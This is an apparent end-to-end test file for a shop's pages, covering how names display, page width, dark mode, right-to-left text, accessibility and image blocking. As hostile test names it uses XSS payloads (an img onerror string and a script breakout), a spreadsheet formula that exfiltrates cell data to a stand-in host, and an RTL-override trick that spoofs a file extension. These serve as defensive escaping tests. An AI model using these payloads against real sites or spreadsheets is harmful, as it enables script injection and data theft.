// How the storefront's pages hold up, over the real server: whatever a thing or a customer is called, in any width, colour and direction.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { audit } from "./axe.mjs";
import { launchBrowser } from "./browser.mjs";
import { query, until } from "./kassa.mjs";
import { heading, orderButton, toReview, visit } from "./shopping.mjs";
import { newEmail, openStore } from "./store.mjs";

/** What would be run, as markup, as a script, by a spreadsheet; what is too long for its place; what is written from right to left. */
const NAMES = {
  markup: `<img src=x onerror="window.taken=1">`,
  script: `</script><script>window.taken=1</script>`,
  formula: `=HYPERLINK("http://evil.test/?"&A1,"Free")`,
  long: "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(3).slice(0, 255),
  right: "كوب خزفي كبير",
  turned: "Mug \u202egpj.exe",
};
/** Marks that turn the text behind them round, which a title is without. */
const TURNS = /[\u202a-\u202e\u2066-\u2069]/g;

let browser;
let store;
const slugs = {};
before(async () => {
  browser = await launchBrowser();
  store = await openStore();
  for (const [sku, name] of Object.entries(NAMES)) {
    const options = {
      options: [name.slice(0, 40)],
      variants: [0, 1].map((n) => ({ sku: `${sku}-${n}`, options: [`${name.slice(0, 200)} ${n}`], stock: 90 })),
    };
    const product = await store.add({
      name,
      category: name,
      price: 700,
      description: `${name}\n\n${name}`,
      pictures: [["ruler"]],
      ...options,
    });
    slugs[sku] = product.slug;
  }
});
after(async () => {
  await browser?.close();
  await store?.close();
});

const cartOf = (skus) => JSON.stringify(skus.map((sku) => ({ sku, quantity: 1, seen_price_minor: 700 })));
const taken = (page) => page.evaluate(() => window.taken);

test("a name is a name, in every place where it shows", async () => {
  const { page, context, complaints } = await visit(browser, `${store.url}/`);
  const seen = new Set();
  const look = async (place) => {
    assert.equal(await taken(page), undefined, place);
    assert.equal(await page.locator("img[src=x]").count(), 0, place);
    seen.add(place);
  };
  for (const [sku, name] of Object.entries(NAMES)) {
    await page.goto(`${store.url}/p/${slugs[sku]}`);
    await page.locator(".product h1").waitFor();
    assert.equal(await page.locator(".product h1").textContent(), name);
    assert.ok((await page.title()).includes(name.replace(TURNS, "")), await page.title());
    assert.equal(await page.locator(".choice").count(), 2);
    assert.equal(await page.locator(".crumbs a, .crumbs [aria-current]").last().textContent(), name);
    await look(`product ${sku}`);
    const raw = await (await fetch(`${store.url}/p/${slugs[sku]}`)).text();
    assert.doesNotMatch(raw, /<img src=x|<\/script><script>w/);
    const written = [...raw.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map(([, text]) => JSON.parse(text));
    assert.ok(
      written.flatMap((one) => one["@graph"] ?? one).some((one) => one.name === name),
      "JSON-LD has the name",
    );
  }
  await page.goto(`${store.url}/search?${new URLSearchParams({ q: NAMES.markup })}`);
  await page.locator("h1").waitFor();
  await look("search");
  await page.goto(`${store.url}/search?${new URLSearchParams({ q: `"></script><script>window.taken=1</script>` })}`);
  await page.locator("h1").waitFor();
  await look("search for a script");
  await page.goto(`${store.url}/c/${(await store.read(`/v1/products/slug:${slugs.markup}`)).category_slug}`);
  await heading(page, NAMES.markup);
  await look("category");

  await page.evaluate((cart) => localStorage.setItem("kassa-cart", cart), cartOf(Object.keys(NAMES).map((sku) => `${sku}-1`)));
  await page.goto(`${store.url}/cart`);
  await page.locator(".line-name").nth(5).waitFor();
  assert.deepEqual(await page.locator(".line-name").allTextContents(), Object.values(NAMES));
  await look("cart");
  const email = newEmail();
  await toReview(page, { email, name: NAMES.markup, line1: NAMES.script });
  await look("review");
  await orderButton(page).click();
  await heading(page, `Thank you, ${NAMES.markup}`);
  assert.deepEqual(await page.locator(".order .line-name").allTextContents(), Object.values(NAMES));
  await page.reload();
  await heading(page, `Thank you, ${NAMES.markup}`);
  await page.locator(".fact").getByText(NAMES.script).waitFor();
  await look("order");
  assert.deepEqual(complaints, []);
  await onTheDashboard(page, complaints);
  await context.close();
});

async function onTheDashboard(page, complaints) {
  const question = { site_id: "default", metrics: ["revenue"], date_range: "day", dimensions: ["product:name"] };
  const rows = await until(
    () => query(store.url, question),
    (all) => all.length === Object.keys(NAMES).length,
  );
  assert.deepEqual(rows.map(({ dimensions: [name] }) => name).sort(), Object.values(NAMES).sort());
  for (const address of ["/dashboard?period=day&tab.products=product", "/dashboard?view=goods&period=day"]) {
    await page.goto(store.url + address);
    for (const name of Object.values(NAMES)) await page.getByText(name, { exact: true }).first().waitFor();
    assert.equal(await taken(page), undefined, address);
    assert.equal(await page.locator("img[src=x]").count(), 0, address);
  }
  assert.deepEqual(complaints, []);
  const body = JSON.stringify({ ...question, format: "csv" });
  const file = await (
    await fetch(`${store.url}/v1/query`, { method: "POST", headers: { "content-type": "application/json" }, body })
  ).text();
  assert.match(file, /^"?'=HYPERLINK/m);
}

const PAGES = {
  home: "/",
  category: "/c/kitchen",
  found: "/search?q=lin",
  nothing: "/search?q=zzz",
  variants: "/p/linen-apron",
  soldOut: "/p/bread-knife",
  missing: "/p/nope",
  terms: "/terms",
  cart: "/cart",
  contact: "/checkout/contact",
};

/** All pages of the shop one after another, to the order; `check` is called on each. */
async function walk(page, check) {
  const more = Object.fromEntries(["markup", "long", "right"].map((name) => [name, `/p/${slugs[name]}`]));
  await page.goto(`${store.url}/imprint`);
  await page.evaluate((cart) => localStorage.setItem("kassa-cart", cart), cartOf(["long-0", "right-0", "brass-pen", "bread-knife"]));
  for (const [name, path] of Object.entries({ ...PAGES, ...more })) {
    await page.goto(store.url + path);
    await page.locator("footer").waitFor();
    if (name === "cart") await page.locator(".changed").nth(1).waitFor();
    await check(name);
  }
  await page.evaluate((cart) => localStorage.setItem("kassa-cart", cart), cartOf(["long-0", "right-0", "markup-0"]));
  await page.goto(`${store.url}/cart`);
}

const SCHEMES = [
  { colorScheme: "light", width: 1280 },
  { colorScheme: "dark", width: 320 },
];

for (const { colorScheme, width } of SCHEMES)
  test(`no page is too wide or faulty to axe, ${colorScheme}`, async () => {
    const { page, context, complaints } = await visit(browser, `${store.url}/`, { colorScheme, viewport: { width, height: 800 } });
    const check = async (name) => {
      assert.deepEqual(await audit(page), [], `${name} at ${width}, ${colorScheme}`);
      for (const narrow of [1280, 390, 320]) {
        await page.setViewportSize({ width: narrow, height: 800 });
        const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
        assert.ok(over <= 0, `${name} at ${narrow} is ${over} pixels too wide`);
      }
      await page.setViewportSize({ width, height: 800 });
    };
    await walk(page, check);
    await toReview(page, { email: newEmail(), name: NAMES.long.slice(0, 200) });
    await orderButton(page).waitFor();
    await check("review");
    await orderButton(page).click();
    await page.locator(".progress").waitFor();
    await check("order");
    assert.deepEqual(complaints, []);
    await context.close();
  });

test("from right to left, no page is too wide", async () => {
  const { page, context, complaints } = await visit(browser, `${store.url}/`, { locale: "ar", viewport: { width: 390, height: 800 } });
  await walk(page, async (name) => {
    assert.equal(await page.evaluate(() => document.documentElement.dir), "rtl", name);
    for (const width of [1280, 390, 320]) {
      await page.setViewportSize({ width, height: 800 });
      const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      assert.ok(over <= 0, `${name} at ${width} is ${over} pixels too wide`);
    }
  });
  assert.deepEqual(complaints, []);
  await context.close();
});

test("a picture of another server shows only if the shop's owner lets it in", async () => {
  const slug = (await store.add({ name: "From Elsewhere", category: "Desk", price: 100, image_url: "https://pictures.test/a.png" })).slug;
  const { page, context, complaints } = await visit(browser, `${store.url}/p/${slug}`);
  await heading(page, "From Elsewhere");
  assert.equal(await page.locator('img[src*="pictures.test"]').count(), 0);
  assert.doesNotMatch(await page.content(), /pictures\.test/);
  assert.deepEqual(complaints, []);
  await context.close();
});

test("what the server wrote is taken over as it is: nothing is drawn anew, nothing moves", async () => {
  for (const path of ["/", "/c/kitchen", "/search?q=lin", "/p/linen-apron", "/terms"]) {
    const context = await browser.newContext({ viewport: { width: 390, height: 800 } });
    const page = await context.newPage();
    let start;
    const ready = new Promise((resolve) => (start = resolve));
    await page.route(/\/assets\/shop-[^/]*\.js$/, async (route) => {
      await ready;
      await route.continue();
    });
    await page.goto(store.url + path, { waitUntil: "commit" });
    await page.locator("footer").waitFor();
    const drawn = "#root :is(header, main, footer, h1, h2, img, a, button, label)";
    const written = await page.evaluate((all) => (window.written = [...document.querySelectorAll(all)]).length, drawn);
    const places = () => page.evaluate(() => window.written.map((one) => [one.tagName, one.getBoundingClientRect().top]));
    const before = await places();
    const counted = page.waitForRequest("**/v1/batch");
    start();
    await counted;
    assert.ok(written > 10, `${path}: ${written} elements`);
    assert.deepEqual(await places(), before, path);
    assert.equal(await page.evaluate(() => window.written.filter((one) => !one.isConnected).length), 0, path);
    await context.close();
  }
});
